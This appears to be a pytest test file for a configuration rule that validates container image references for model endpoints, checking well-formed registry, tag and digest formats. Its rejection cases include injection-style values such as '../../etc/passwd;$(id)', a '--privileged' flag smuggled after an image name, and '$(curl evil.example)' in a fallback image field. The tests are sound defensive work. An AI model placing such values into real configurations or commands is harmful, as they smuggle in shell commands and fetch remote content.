from __future__ import annotations

import pytest

DIGEST = "sha256:" + "0123456789abcdef" * 4


@pytest.mark.parametrize("image", [
    "123456789012.dkr.ecr.us-east-1.amazonaws.com/llm:1.0",
    f"123456789012.dkr.ecr.us-east-1.amazonaws.com/team/llm@{DIGEST}",
    f"123456789012.dkr.ecr.us-east-1.amazonaws.com/llm:1.0@{DIGEST}",
    "763104351884.dkr.ecr.us-east-1.amazonaws.com/djl-inference:0.33.0-lmi15.0.0-cu128",
    "registry.example.com:5000/ml/vllm__openai:v0.9.2",
])
def test_image_references_pass(run_rule, single_model, image):
    single_model["endpoints"][0]["model"]["image"] = image
    assert run_rule("FS077", single_model) == []


@pytest.mark.parametrize(
    ("image", "why"),
    [
        ("../../etc/passwd;$(id)", "characters no image reference holds ('$' '(' ')' ';')"),
        ("/etc/passwd", "file path"),
        ("./llm:1.0", "file path"),
        ("llm:1.0 --privileged", "whitespace"),
        ("123456789012.dkr.ecr.us-east-1.amazonaws.com/LLM:1.0", "upper-case"),
        ("123456789012.dkr.ecr.us-east-1.amazonaws.com/llm@sha256:abc", "digest"),
        ("123456789012.dkr.ecr.us-east-1.amazonaws.com/llm@sha256:" + "a" * 40, "64 hex digits"),
        ("123456789012.dkr.ecr.us-east-1.amazonaws.com/llm:1.0:2.0", "not registry/repository"),
        ("a/" * 130 + "llm", "more than the 255"),
    ],
)
def test_anything_else_is_an_error(run_rule, hits, single_model, image, why):
    single_model["endpoints"][0]["model"]["image"] = image
    found = run_rule("FS077", single_model)
    assert hits(found) == [("FS077", "error", "endpoints[0].model.image")]
    assert why in found[0].message
    assert "registry/repository:tag" in found[0].hint


def test_fallback_override_images_are_checked(run_rule, hits, single_model):
    single_model["endpoints"][0]["capacity"] = {
        "fallback": [{"instance_type": "ml.g5.2xlarge", "model": {"image": "$(curl evil.example)"}}]}
    assert hits(run_rule("FS077", single_model)) == [("FS077", "error", "endpoints[0].capacity.fallback[0].model.image")]
